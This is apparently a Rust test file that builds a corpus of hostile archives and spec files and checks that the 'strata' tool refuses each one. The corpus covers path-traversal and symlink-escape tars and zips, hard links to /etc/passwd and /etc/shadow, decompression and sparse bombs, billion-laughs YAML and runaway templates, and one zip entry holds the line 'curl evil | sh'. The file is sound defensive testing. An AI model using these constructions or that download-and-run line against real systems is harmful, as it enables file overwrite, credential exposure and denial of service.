//! The hostile-input corpus: malicious and malformed archives, images and
//! spec files, each given to the real `strata` binary through the entry
//! point a user would use, and each refused.
//!
//! Every case is a row of [`corpus`]: a name, how its bytes are built
//! (here, in code, so the row documents the attack), which entry point
//! reads them, and a substring the error must contain. For each case the
//! test checks:
//!
//! - strata exits with an error containing the expected text;
//! - nothing was written outside its target: the canary directory every
//!   escaping entry aims at stays empty;
//! - nothing partial is left in the store: the image list is what it was,
//!   `strata store fsck` is clean and `$STORE/strata/tmp` is empty;
//! - memory and time are bounded: strata runs under `prlimit --as` (4 GiB
//!   of address space) and `timeout` (60 s), and must finish on its own.
//!
//! It prints `hostile inputs refused: N/N`. Unit-level corpora sit next to
//! each reader (`layer::limits`, the YAML, Tera and Scheme readers).

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::support::*;

/// Where a case's bytes go in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Entry {
    /// `strata image import rootfs:FILE`: a tar(.gz) made into a layer.
    Rootfs,
    /// `strata image import oci-archive:FILE`.
    OciArchive,
    /// `strata image import oci:DIR`, the bytes a tar extracted into DIR.
    OciDir,
    /// `strata image import docker-archive:FILE`.
    DockerArchive,
    /// A craft part's `source: FILE` with `source-type:` this, pulled by
    /// `strata build` (needs a build base: busybox).
    Source(&'static str),
    /// `strata plan FILE`, the file named this (`parts.yaml` in a project
    /// directory, `x.spk.yaml`, `x.scm`).
    Spec(&'static str),
}

/// What a case may use to build its bytes.
struct Ctx {
    /// The canary directory (absolute): escaping entries aim into it.
    canary: PathBuf,
}

impl Ctx {
    /// A path that, taken relative to any directory less than 16 levels
    /// deep, climbs out to the canary.
    fn climb(&self, leaf: &str) -> String {
        format!("{}{}/{leaf}", "../".repeat(16), self.canary.display().to_string().trim_start_matches('/'))
    }

    fn canary(&self) -> String {
        self.canary.display().to_string()
    }
}

struct Case {
    name: &'static str,
    entry: Entry,
    build: fn(&Ctx) -> Vec<u8>,
    /// Environment for strata (limits lowered so a bomb stays small here).
    env: &'static [(&'static str, &'static str)],
    want: &'static str,
}

// ---- tar bytes, header by header (tar-rs refuses to write most of these) ----

const BLOCK: usize = 512;

/// A numeric header field: octal, or GNU base-256 when it does not fit.
fn octal(field: &mut [u8], v: u64) {
    let s = format!("{:0w$o}\0", v, w = field.len() - 1);
    if s.len() == field.len() {
        field.copy_from_slice(s.as_bytes());
    } else {
        field.fill(0);
        let n = field.len();
        field[n - 8..].copy_from_slice(&v.to_be_bytes());
        field[0] = 0x80;
    }
}

fn header(name: &str, kind: u8, size: u64, link: &str) -> [u8; BLOCK] {
    let mut h = [0u8; BLOCK];
    h[..name.len()].copy_from_slice(name.as_bytes());
    octal(&mut h[100..108], if kind == b'5' { 0o755 } else { 0o644 });
    octal(&mut h[108..116], 0);
    octal(&mut h[116..124], 0);
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 1_700_000_000);
    h[156] = kind;
    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    checksum(&mut h);
    h
}

fn checksum(h: &mut [u8; BLOCK]) {
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    let s = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(s.as_bytes());
}

/// One tar entry: name, type flag, link target, content.
struct T<'a>(&'a str, u8, &'a str, &'a [u8]);

fn tar(entries: &[T<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    for T(name, kind, link, data) in entries {
        out.extend_from_slice(&header(name, *kind, data.len() as u64, link));
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(BLOCK) * BLOCK, 0);
    }
    out.resize(out.len() + 2 * BLOCK, 0);
    out
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> T<'a> {
    T(name, b'0', "", data)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// A gzip of a tar holding one file of `size` zero bytes, compressed as it
/// is generated (never held whole).
fn zero_bomb(size: u64) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(&header("bomb", b'0', size, "")).unwrap();
    let chunk = vec![0u8; 1 << 20];
    let mut left = size;
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        e.write_all(&chunk[..n]).unwrap();
        left -= n as u64;
    }
    e.write_all(&vec![0u8; (size as usize).div_ceil(BLOCK) * BLOCK - size as usize + 2 * BLOCK]).unwrap();
    e.finish().unwrap()
}

/// A GNU sparse file of one byte that expands to `real` bytes.
fn sparse_bomb(real: u64) -> Vec<u8> {
    let mut h = header("sparse", b'S', 1, "");
    h[257..265].copy_from_slice(b"ustar  \0");
    octal(&mut h[386..398], real - 1); // the only chunk: 1 byte at real - 1
    octal(&mut h[398..410], 1);
    octal(&mut h[483..495], real);
    checksum(&mut h);
    let mut out = h.to_vec();
    out.push(b'x');
    out.resize(2 * BLOCK + 2 * BLOCK, 0);
    out
}

// ---- zip, deb ----

fn zip(build: impl FnOnce(&mut zip::ZipWriter<std::io::Cursor<Vec<u8>>>)) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    build(&mut w);
    w.finish().unwrap().into_inner()
}

fn zip_file(w: &mut zip::ZipWriter<std::io::Cursor<Vec<u8>>>, name: &str, data: &[u8]) {
    w.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
    w.write_all(data).unwrap();
}

/// An ar archive (a .deb) of `members`.
fn ar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = b"!<arch>\n".to_vec();
    for (name, data) in members {
        out.extend_from_slice(
            format!("{:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", name, 0, 0, 0, 100644, data.len()).as_bytes(),
        );
        out.extend_from_slice(data);
        if data.len() % 2 == 1 {
            out.push(b'\n');
        }
    }
    out
}

fn deb(data_tar: &[u8]) -> Vec<u8> {
    ar(&[("debian-binary", b"2.0\n"), ("control.tar.gz", &gzip(&tar(&[]))), ("data.tar.gz", &gzip(data_tar))])
}

// ---- OCI layouts and docker archives ----

fn sha(bytes: &[u8]) -> String {
    strata::digest::sha256(bytes).digest().to_string()
}

fn desc(media_type: &str, bytes: &[u8]) -> serde_json::Value {
    serde_json::json!({ "mediaType": media_type, "digest": format!("sha256:{}", sha(bytes)), "size": bytes.len() })
}

const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
const INDEX: &str = "application/vnd.oci.image.index.v1+json";
const CONFIG: &str = "application/vnd.oci.image.config.v1+json";
const LAYER: &str = "application/vnd.oci.image.layer.v1.tar";

fn config(diff_ids: &[String]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "rootfs": { "type": "layers", "diff_ids": diff_ids },
    }))
    .unwrap()
}

fn manifest(config: &[u8], layers: &[&[u8]]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": MANIFEST,
        "config": desc(CONFIG, config),
        "layers": layers.iter().map(|l| desc(LAYER, l)).collect::<Vec<_>>(),
    }))
    .unwrap()
}

fn index_of(entries: &[serde_json::Value]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({ "schemaVersion": 2, "mediaType": INDEX, "manifests": entries })).unwrap()
}

/// An OCI layout as a tar: `index.json` (`index`), `oci-layout`, and
/// `blobs/sha256/NAME` for each (name, bytes); a name `None` is the
/// bytes' own digest.
fn layout(index: &[u8], blobs: &[(Option<String>, &[u8])]) -> Vec<u8> {
    let names: Vec<String> =
        blobs.iter().map(|(n, b)| format!("blobs/sha256/{}", n.clone().unwrap_or_else(|| sha(b)))).collect();
    let mut entries = vec![file("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#), file("index.json", index)];
    for (name, (_, b)) in names.iter().zip(blobs) {
        entries.push(file(name, b));
    }
    tar(&entries)
}

/// A well-formed one-layer image's parts: (layer, config, manifest).
fn image_parts() -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    let layer = tar(&[file("hello", b"hi\n")]);
    let cfg = config(&[format!("sha256:{}", sha(&layer))]);
    let m = manifest(&cfg, &[&layer]);
    (layer, cfg, m)
}

fn docker(manifest_json: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries = vec![file("manifest.json", manifest_json.as_bytes())];
    for (n, b) in files {
        entries.push(file(n, b));
    }
    tar(&entries)
}

/// YAML mappings nested `depth` deep, one space of indentation a level.
fn nested_map(depth: usize) -> String {
    (1..=depth).map(|i| format!("{}k:\n", " ".repeat(i))).collect()
}

// ---- the corpus ----

const SMALL_LIMIT: &[(&str, &str)] = &[("STRATA_MAX_UNPACK_SIZE", "20MB")];

fn corpus() -> Vec<Case> {
    use Entry::*;
    vec![
        // Layers (a rootfs tarball becomes one).
        Case {
            name: "tar: a '..' path climbing to the canary",
            entry: Rootfs,
            build: |c| tar(&[file(&c.climb("pwned"), b"x")]),
            env: &[],
            want: "has a '..' component",
        },
        Case {
            name: "tar: an absolute path",
            entry: Rootfs,
            build: |c| tar(&[file(&format!("{}/pwned", c.canary()), b"x")]),
            env: &[],
            want: "has an absolute path",
        },
        Case {
            name: "tar: a write through an absolute symlink",
            entry: Rootfs,
            build: |c| tar(&[T("esc", b'2', &c.canary(), b""), file("esc/pwned", b"x")]),
            env: &[],
            want: "esc/pwned",
        },
        Case {
            name: "tar: a write through a relative symlink climbing out",
            entry: Rootfs,
            build: |_| tar(&[T("d/", b'5', "", b""), T("d/up", b'2', "../..", b""), file("d/up/pwned", b"x")]),
            env: &[],
            want: "d/up/pwned",
        },
        Case {
            name: "tar: a hard link out of the tree",
            entry: Rootfs,
            build: |_| tar(&[T("passwd", b'1', "../../etc/passwd", b"")]),
            env: &[],
            want: "is a hard link to \"../../etc/passwd\" which is outside",
        },
        Case {
            name: "tar: a hard link to an absolute path",
            entry: Rootfs,
            build: |_| tar(&[T("shadow", b'1', "/etc/shadow", b"")]),
            env: &[],
            want: "is a hard link to \"/etc/shadow\" which is outside",
        },
        Case {
            name: "tar: a symlink chain looping on itself, written through",
            entry: Rootfs,
            build: |_| tar(&[T("a", b'2', "b", b""), T("b", b'2', "a", b""), file("a/pwned", b"x")]),
            env: &[],
            want: "a/pwned",
        },
        Case {
            name: "tar: a directory replaced by a symlink out, then written through",
            entry: Rootfs,
            build: |c| tar(&[T("d/", b'5', "", b""), T("d", b'2', &c.canary(), b""), file("d/pwned", b"x")]),
            env: &[],
            want: "d/pwned",
        },
        Case {
            name: "tar: a header with a bad checksum",
            entry: Rootfs,
            build: |_| {
                let mut t = tar(&[file("a", b"x")]);
                t[148] = b'7';
                t
            },
            env: &[],
            want: "checksum",
        },
        Case {
            name: "tar: an entry cut short",
            entry: Rootfs,
            build: |_| header("big", b'0', 1 << 20, "")[..].iter().copied().chain(*b"only this").collect(),
            env: &[],
            want: "cannot import root filesystem tarball",
        },
        Case {
            name: "tar: a PAX header claiming 2 GiB",
            entry: Rootfs,
            build: |_| header("././@PaxHeader", b'x', 2 << 30, "").to_vec(),
            env: &[],
            want: "tar extension header (type 'x') of 2147483648 bytes is larger than the limit",
        },
        Case {
            name: "tar: a GNU long name claiming 1 GiB",
            entry: Rootfs,
            build: |_| header("././@LongLink", b'L', 1 << 30, "").to_vec(),
            env: &[],
            want: "tar extension header (type 'L')",
        },
        Case {
            name: "tar: a gzip bomb past the size limit",
            entry: Rootfs,
            build: |_| zero_bomb(64 << 20),
            env: SMALL_LIMIT,
            want: "unpacks to more than 20000000 bytes",
        },
        Case {
            name: "tar: a 1-byte sparse file expanding to 1 PB (default limit)",
            entry: Rootfs,
            build: |_| sparse_bomb(1 << 50),
            env: &[],
            want: "unpacks to more than 68719476736 bytes",
        },
        Case {
            name: "tar: more entries than the limit",
            entry: Rootfs,
            build: |_| {
                let names: Vec<String> = (0..3000).map(|i| format!("f{i}")).collect();
                gzip(&tar(&names.iter().map(|n| file(n, b"")).collect::<Vec<_>>()))
            },
            env: &[("STRATA_MAX_UNPACK_ENTRIES", "1000")],
            want: "more than 1000 entries",
        },
        Case {
            name: "tar: an unsupported entry type (GNU volume header)",
            entry: Rootfs,
            build: |_| tar(&[T("vol", b'V', "", b"")]),
            env: &[],
            want: "unsupported type",
        },
        // OCI archives.
        Case {
            name: "oci-archive: a blob whose bytes do not match its digest",
            entry: OciArchive,
            build: |_| {
                let (layer, cfg, m) = image_parts();
                let idx = index_of(&[desc(MANIFEST, &m)]);
                layout(&idx, &[(None, &m), (None, &cfg), (Some(sha(&layer)), b"tampered layer")])
            },
            env: &[],
            want: "is corrupt: its content hashes to",
        },
        Case {
            name: "oci-archive: an index cycle (an index named as its own child)",
            entry: OciArchive,
            build: |_| {
                // A real cycle needs a blob holding its own digest; only a
                // lie about a digest can make one, and that is refused.
                let child = index_of(&[serde_json::json!({
                    "mediaType": INDEX, "digest": format!("sha256:{}", "c".repeat(64)), "size": 10 })]);
                let idx = index_of(&[serde_json::json!({
                    "mediaType": INDEX, "digest": format!("sha256:{}", "c".repeat(64)), "size": child.len() })]);
                layout(&idx, &[(Some("c".repeat(64)), &child)])
            },
            env: &[],
            want: "is corrupt",
        },
        Case {
            name: "oci-archive: a manifest missing from the archive",
            entry: OciArchive,
            build: |_| {
                let (_, _, m) = image_parts();
                layout(&index_of(&[desc(MANIFEST, &m)]), &[])
            },
            env: &[],
            want: "lacks blob",
        },
        Case {
            name: "oci-archive: a descriptor size that lies",
            entry: OciArchive,
            build: |_| {
                let (layer, cfg, m) = image_parts();
                let mut d = desc(MANIFEST, &m);
                d["size"] = 3.into();
                layout(&index_of(&[d]), &[(None, &m), (None, &cfg), (None, &layer)])
            },
            env: &[],
            want: "its descriptor says 3",
        },
        Case {
            name: "oci-archive: index.json is not JSON",
            entry: OciArchive,
            build: |_| layout(b"{\"manifests\": [", &[]),
            env: &[],
            want: "index.json is invalid",
        },
        Case {
            name: "oci-archive: index.json declared 100 MiB (not read into memory)",
            entry: OciArchive,
            build: |_| header("index.json", b'0', 100 << 20, "").to_vec(),
            env: &[],
            want: "is too large for a metadata file",
        },
        Case {
            name: "oci-archive: an unsupported digest algorithm",
            entry: OciArchive,
            build: |_| {
                let d = serde_json::json!({ "mediaType": MANIFEST, "digest": format!("sha512:{}", "a".repeat(128)), "size": 2 });
                layout(&index_of(&[d]), &[])
            },
            env: &[],
            want: "unsupported digest",
        },
        Case {
            name: "oci-archive: the archive itself a gzip bomb",
            entry: OciArchive,
            build: |_| zero_bomb(64 << 20),
            env: SMALL_LIMIT,
            want: "unpacks to more than 20000000 bytes",
        },
        // OCI directories.
        Case {
            name: "oci dir: a blob whose bytes do not match its digest",
            entry: OciDir,
            build: |_| {
                let (layer, cfg, m) = image_parts();
                layout(&index_of(&[desc(MANIFEST, &m)]), &[(None, &m), (Some(sha(&cfg)), b"{}"), (None, &layer)])
            },
            env: &[],
            want: "is corrupt",
        },
        Case {
            name: "oci dir: no index.json",
            entry: OciDir,
            build: |_| tar(&[file("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#)]),
            env: &[],
            want: "index.json",
        },
        // Docker archives.
        Case {
            name: "docker-archive: no manifest.json",
            entry: DockerArchive,
            build: |_| tar(&[file("repositories", b"{}")]),
            env: &[],
            want: "has no manifest.json",
        },
        Case {
            name: "docker-archive: a layer whose diff_id does not match the config",
            entry: DockerArchive,
            build: |_| {
                let layer = tar(&[file("hello", b"hi\n")]);
                let cfg = config(&[format!("sha256:{}", "0".repeat(64))]);
                docker(
                    r#"[{"Config":"c.json","RepoTags":["evil:1"],"Layers":["l/layer.tar"]}]"#,
                    &[("c.json", &cfg), ("l/layer.tar", &layer)],
                )
            },
            env: &[],
            want: "has diff_id",
        },
        Case {
            name: "docker-archive: layers symlinked in a loop",
            entry: DockerArchive,
            build: |_| {
                let cfg = config(&[format!("sha256:{}", "0".repeat(64))]);
                let mut t = docker(
                    r#"[{"Config":"c.json","RepoTags":["evil:1"],"Layers":["a/layer.tar"]}]"#,
                    &[("c.json", &cfg)],
                );
                let links = tar(&[
                    T("a/layer.tar", b'2', "../b/layer.tar", b""),
                    T("b/layer.tar", b'2', "../a/layer.tar", b""),
                ]);
                t.truncate(t.len() - 2 * BLOCK);
                t.extend_from_slice(&links);
                t
            },
            env: &[],
            want: "lacks a/layer.tar",
        },
        Case {
            name: "docker-archive: a config that is not an image config",
            entry: DockerArchive,
            build: |_| {
                docker(r#"[{"Config":"c.json","RepoTags":["evil:1"],"Layers":[]}]"#, &[("c.json", b"[1, 2, 3]")])
            },
            env: &[],
            want: "c.json is invalid",
        },
        Case {
            name: "docker-archive: more layers than diff_ids",
            entry: DockerArchive,
            build: |_| {
                let layer = tar(&[file("hello", b"hi\n")]);
                docker(
                    r#"[{"Config":"c.json","RepoTags":["evil:1"],"Layers":["l/layer.tar","l/layer.tar"]}]"#,
                    &[("c.json", &config(&[format!("sha256:{}", sha(&layer))])), ("l/layer.tar", &layer)],
                )
            },
            env: &[],
            want: "2 layers, but config c.json lists 1 diff_ids",
        },
        Case {
            name: "docker-archive: manifest.json a megabyte of nesting",
            entry: DockerArchive,
            build: |_| docker(&"[".repeat(1 << 20), &[]),
            env: &[],
            want: "manifest.json is invalid",
        },
        // Part sources.
        Case {
            name: "tar source: a '..' path",
            entry: Source("tar"),
            build: |c| gzip(&tar(&[file("top/ok", b"x"), file(&c.climb("pwned"), b"x")])),
            env: &[],
            want: "has a '..' component; refusing to extract it",
        },
        Case {
            name: "tar source: a write through an absolute symlink",
            entry: Source("tar"),
            build: |c| tar(&[T("esc", b'2', &c.canary(), b""), file("esc/pwned", b"x")]),
            env: &[],
            want: "which leads outside",
        },
        Case {
            name: "tar source: a hard link to a host file",
            entry: Source("tar"),
            build: |_| tar(&[T("passwd", b'1', "/etc/passwd", b"")]),
            env: &[],
            want: "has an absolute path",
        },
        Case {
            name: "tar source: a tar bomb past the size limit",
            entry: Source("tar"),
            build: |_| zero_bomb(64 << 20),
            env: SMALL_LIMIT,
            want: "unpacks to more than 20000000 bytes",
        },
        Case {
            name: "tar source: a 1 PB sparse file",
            entry: Source("tar"),
            build: |_| sparse_bomb(1 << 50),
            env: &[],
            want: "unpacks to more than",
        },
        Case {
            name: "zip source: a '..' path",
            entry: Source("zip"),
            build: |c| zip(|w| zip_file(w, &c.climb("pwned"), b"x")),
            env: &[],
            want: "has a '..' component",
        },
        Case {
            name: "zip source: an absolute path",
            entry: Source("zip"),
            build: |c| zip(|w| zip_file(w, &format!("{}/pwned", c.canary()), b"x")),
            env: &[],
            want: "has an absolute path",
        },
        Case {
            name: "zip source: a symlink out, then a file through it",
            entry: Source("zip"),
            build: |c| {
                zip(|w| {
                    w.add_symlink("esc", c.canary(), zip::write::SimpleFileOptions::default()).unwrap();
                    zip_file(w, "esc/pwned", b"x");
                })
            },
            env: &[],
            want: "which leads outside",
        },
        Case {
            name: "zip source: a zip bomb past the size limit",
            entry: Source("zip"),
            build: |_| {
                zip(|w| {
                    w.start_file("bomb", zip::write::SimpleFileOptions::default().large_file(true)).unwrap();
                    let chunk = vec![0u8; 1 << 20];
                    for _ in 0..64 {
                        w.write_all(&chunk).unwrap();
                    }
                })
            },
            env: SMALL_LIMIT,
            want: "unpacks to more than 20000000 bytes",
        },
        Case {
            name: "zip source: one name twice",
            entry: Source("zip"),
            build: |_| {
                // zip's writer refuses a name twice: write two, then rename.
                let z = zip(|w| {
                    zip_file(w, "run.sh", b"echo harmless");
                    zip_file(w, "run.sx", b"curl evil | sh");
                });
                let mut out = Vec::new();
                let mut rest = &z[..];
                while let Some(i) = rest.windows(6).position(|w| w == b"run.sx") {
                    out.extend_from_slice(&rest[..i]);
                    out.extend_from_slice(b"run.sh");
                    rest = &rest[i + 6..];
                }
                out.extend_from_slice(rest);
                out
            },
            env: &[],
            want: "a name appears twice",
        },
        Case {
            name: "zip source: a symlink target of 1 MiB",
            entry: Source("zip"),
            build: |_| {
                zip(|w| {
                    w.add_symlink("l", "a".repeat(1 << 20), zip::write::SimpleFileOptions::default()).unwrap();
                })
            },
            env: &[],
            want: "has a target longer than 4096 bytes",
        },
        Case {
            name: "zip source: not a zip",
            entry: Source("zip"),
            build: |_| b"PK\x03\x04 this is not really a zip".to_vec(),
            env: &[],
            want: "zip",
        },
        Case {
            name: "deb source: a '..' path in data.tar",
            entry: Source("deb"),
            build: |c| deb(&tar(&[file("./usr/ok", b"x"), file(&c.climb("pwned"), b"x")])),
            env: &[],
            want: "has a '..' component",
        },
        Case {
            name: "deb source: a write through a symlink in data.tar",
            entry: Source("deb"),
            build: |c| deb(&tar(&[T("./esc", b'2', &c.canary(), b""), file("./esc/pwned", b"x")])),
            env: &[],
            want: "which leads outside",
        },
        Case {
            name: "deb source: a data.tar bomb past the size limit",
            entry: Source("deb"),
            build: |_| {
                let bomb = zero_bomb(64 << 20);
                ar(&[("debian-binary", b"2.0\n"), ("data.tar.gz", &bomb)])
            },
            env: SMALL_LIMIT,
            want: "unpacks to more than 20000000 bytes",
        },
        Case {
            name: "deb source: no data.tar member",
            entry: Source("deb"),
            build: |_| ar(&[("debian-binary", b"2.0\n"), ("control.tar.gz", &gzip(&tar(&[])))]),
            env: &[],
            want: "it has no data.tar member",
        },
        Case {
            name: "deb source: a member claiming 9 GB",
            entry: Source("deb"),
            build: |_| {
                let mut d = ar(&[("debian-binary", b"2.0\n")]);
                d.extend_from_slice(
                    format!("{:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", "data.tar", 0, 0, 0, 100644, 9_000_000_000u64)
                        .as_bytes(),
                );
                d.extend_from_slice(&tar(&[file("a", b"x")]));
                d
            },
            env: &[],
            want: "deb",
        },
        // Spec files.
        Case {
            name: "craft: YAML nested 300 deep",
            entry: Spec("parts.yaml"),
            build: |_| format!("parts:\n  p:\n    plugin: nil\nx:\n{}", nested_map(300)).into_bytes(),
            env: &[],
            want: "nests deeper than 128 levels",
        },
        Case {
            name: "craft: a billion laughs",
            entry: Spec("parts.yaml"),
            build: |_| {
                let mut s = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
                for i in 1..10 {
                    let p = i - 1;
                    s.push_str(&format!(
                        "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
                    ));
                }
                s.push_str("parts:\n  p:\n    plugin: nil\n");
                s.into_bytes()
            },
            env: &[],
            want: "alias",
        },
        Case {
            name: "craft: a 64 MiB project file",
            entry: Spec("parts.yaml"),
            build: |_| {
                let mut s = b"parts:\n  p:\n    plugin: nil\n# ".to_vec();
                s.resize(64 << 20, b'x');
                s
            },
            env: &[],
            want: "more than the limit of 16777216",
        },
        Case {
            name: "spk: a macro calling itself",
            entry: Spec("x.spk.yaml"),
            build: |_| b"{% macro f(n) %}{{ self::f(n=n) }}{% endmacro f %}pkg: x/{{ self::f(n=1) }}\n".to_vec(),
            env: &[],
            want: "macro 'f' calls itself",
        },
        Case {
            name: "spk: range(end=1e10)",
            entry: Spec("x.spk.yaml"),
            build: |_| b"pkg: x/1\n# {% for i in range(end=10000000000) %}x{% endfor %}\n".to_vec(),
            env: &[],
            want: "ranges add up to more than 1000000 items",
        },
        Case {
            name: "spk: loops nested four deep over ranges",
            entry: Spec("x.spk.yaml"),
            build: |_| {
                let open = "{% for i in range(end=1000) %}".repeat(4);
                format!("pkg: x/1\n# {open}x{}\n", "{% endfor %}".repeat(4)).into_bytes()
            },
            env: &[],
            want: "ranges add up to more than",
        },
        Case {
            name: "spk: loops that never end within the deadline",
            entry: Spec("x.spk.yaml"),
            build: |_| {
                let open = "{% for i in s %}".repeat(5);
                let s = "a,".repeat(500);
                format!(
                    "pkg: x/1\n# {{% set s = \"{s}\" | split(pat=\",\") %}}{open}{{% endfor %}}{}\n",
                    "{% endfor %}".repeat(4)
                )
                .into_bytes()
            },
            env: &[("STRATA_SPK_TEMPLATE_TIMEOUT", "2")],
            want: "rendering took longer than 2s",
        },
        Case {
            name: "spk: blocks nested 500 deep",
            entry: Spec("x.spk.yaml"),
            build: |_| format!("pkg: x/1\n{}{}", "{% if true %}".repeat(500), "{% endif %}".repeat(500)).into_bytes(),
            env: &[],
            want: "deeper than 64 levels",
        },
        Case {
            name: "spk: YAML nested 300 deep",
            entry: Spec("x.spk.yaml"),
            build: |_| format!("pkg: x/1\nbuild:\n{}", nested_map(300)).into_bytes(),
            env: &[],
            want: "nests deeper than 128 levels",
        },
        Case {
            name: "guix: a procedure calling itself for ever",
            entry: Spec("x.scm"),
            build: |_| b"(define (f x) (f x))\n(define-public p (f 1))\n".to_vec(),
            env: &[],
            want: "nests deeper than 2000 levels",
        },
        Case {
            name: "guix: a string doubling itself",
            entry: Spec("x.scm"),
            build: |_| b"(define (d s) (d (string-append s s)))\n(define-public p (d \"xxxxxxxx\"))\n".to_vec(),
            env: &[],
            want: "a string of",
        },
        Case {
            name: "guix: exponential work at a small depth",
            entry: Spec("x.scm"),
            build: |_| {
                let l = (1..=25).map(|i| i.to_string()).collect::<Vec<_>>().join(" ");
                format!("(define (e l) (if (null? l) 1 (list (e (cdr l)) (e (cdr l)) (e (cdr l)))))\n(define-public p (e '({l})))\n").into_bytes()
            },
            env: &[],
            want: "more than 5000000 steps",
        },
        Case {
            name: "guix: 100,000 open parentheses",
            entry: Spec("x.scm"),
            build: |_| "(".repeat(100_000).into_bytes(),
            env: &[],
            want: "nests deeper than 256 levels",
        },
        Case {
            name: "guix: 100,000 datum comments",
            entry: Spec("x.scm"),
            build: |_| ("#;".repeat(100_000) + "x").into_bytes(),
            env: &[],
            want: "nests deeper than 256 levels",
        },
        Case {
            name: "guix: a 64 MiB package file",
            entry: Spec("x.scm"),
            build: |_| {
                let mut s = b"(define-public p 1)\n;".to_vec();
                s.resize(64 << 20, b'x');
                s
            },
            env: &[],
            want: "more than the limit of 16777216",
        },
    ]
}

// ---- running a case ----

/// What a case left behind that it must not have.
fn check_clean(s: &Strata, images_before: &str, canary: &Path) -> Result<(), String> {
    let mut problems = Vec::new();
    let written: Vec<_> = std::fs::read_dir(canary).unwrap().flatten().map(|e| e.path()).collect();
    if !written.is_empty() {
        problems.push(format!("wrote outside its target: {written:?}"));
    }
    let images = s.ok(&["image", "ls", "--json"]);
    if images != images_before {
        problems.push(format!("the image list changed: {images}"));
    }
    let fsck = s.cmd().args(["store", "fsck"]).output().unwrap();
    if !fsck.status.success() {
        problems.push(format!("store fsck failed: {}", text(&fsck)));
    }
    let tmp = s.store().join("strata/tmp");
    if let Ok(rd) = std::fs::read_dir(&tmp) {
        let left: Vec<_> = rd.flatten().map(|e| e.file_name()).collect();
        if !left.is_empty() {
            problems.push(format!("left in {}: {left:?}", tmp.display()));
        }
    }
    if problems.is_empty() { Ok(()) } else { Err(problems.join("; ")) }
}

/// Runs strata `args` bounded in memory and time; returns (success, stderr, elapsed).
fn bounded(s: &Strata, args: &[&str], env: &[(&str, &str)]) -> (bool, String, Duration) {
    let strata = env!("CARGO_BIN_EXE_strata");
    let mut c = Command::new("prlimit");
    c.arg(format!("--as={}", 4u64 << 30)).args(["--", "timeout", "60", strata, "--store"]);
    c.arg(s.store()).args(args).current_dir(repo());
    for (k, v) in env {
        c.env(k, v);
    }
    let t = Instant::now();
    let out = c.output().expect("run strata under prlimit");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let stderr = if out.status.code() == Some(124) { format!("TIMED OUT after 60 s\n{stderr}") } else { stderr };
    (out.status.success(), stderr, t.elapsed())
}

/// A store with the busybox image, for the source cases (a build needs a
/// build base); copied per case.
fn busybox_store() -> Option<Strata> {
    if !require("busybox-static", "test -x /bin/busybox") {
        return None;
    }
    let s = Strata::new();
    s.busybox();
    Some(s)
}

fn run_case(case: &Case, template: Option<&Strata>) -> Result<Duration, String> {
    let s = Strata::new();
    if let (Entry::Source(_), Some(t)) = (case.entry, template) {
        sh(&format!("cp -a {} {}", t.store().display(), s.store().display()));
    }
    let canary = s.path("canary");
    std::fs::create_dir_all(&canary).unwrap();
    let ctx = Ctx { canary: canary.canonicalize().unwrap() };
    let bytes = (case.build)(&ctx);
    let images_before = s.ok(&["image", "ls", "--json"]);
    let input = s.path("input");
    let (ok, err, took) = match case.entry {
        Entry::Rootfs | Entry::OciArchive | Entry::DockerArchive => {
            std::fs::write(&input, &bytes).unwrap();
            let transport = match case.entry {
                Entry::Rootfs => "rootfs",
                Entry::OciArchive => "oci-archive",
                _ => "docker-archive",
            };
            let src = format!("{transport}:{}", input.display());
            bounded(&s, &["image", "import", &src, "--tag", "evil:1"], case.env)
        }
        Entry::OciDir => {
            std::fs::create_dir(&input).unwrap();
            let t = s.path("layout.tar");
            std::fs::write(&t, &bytes).unwrap();
            sh(&format!("tar -xf {} -C {}", t.display(), input.display()));
            bounded(&s, &["image", "import", &format!("oci:{}", input.display()), "--tag", "evil:1"], case.env)
        }
        Entry::Source(kind) => {
            if template.is_none() {
                return Err("skipped: no busybox for the build base".into());
            }
            std::fs::create_dir(&input).unwrap();
            std::fs::write(input.join(format!("src.{kind}")), &bytes).unwrap();
            let spec = format!("parts:\n  p:\n    plugin: dump\n    source: src.{kind}\n    source-type: {kind}\n");
            std::fs::write(input.join("parts.yaml"), spec).unwrap();
            let dir = input.display().to_string();
            bounded(&s, &["build", &dir, "--base", "bare", "--build-base", "busybox:latest"], case.env)
        }
        Entry::Spec(name) => {
            std::fs::create_dir(&input).unwrap();
            std::fs::write(input.join(name), &bytes).unwrap();
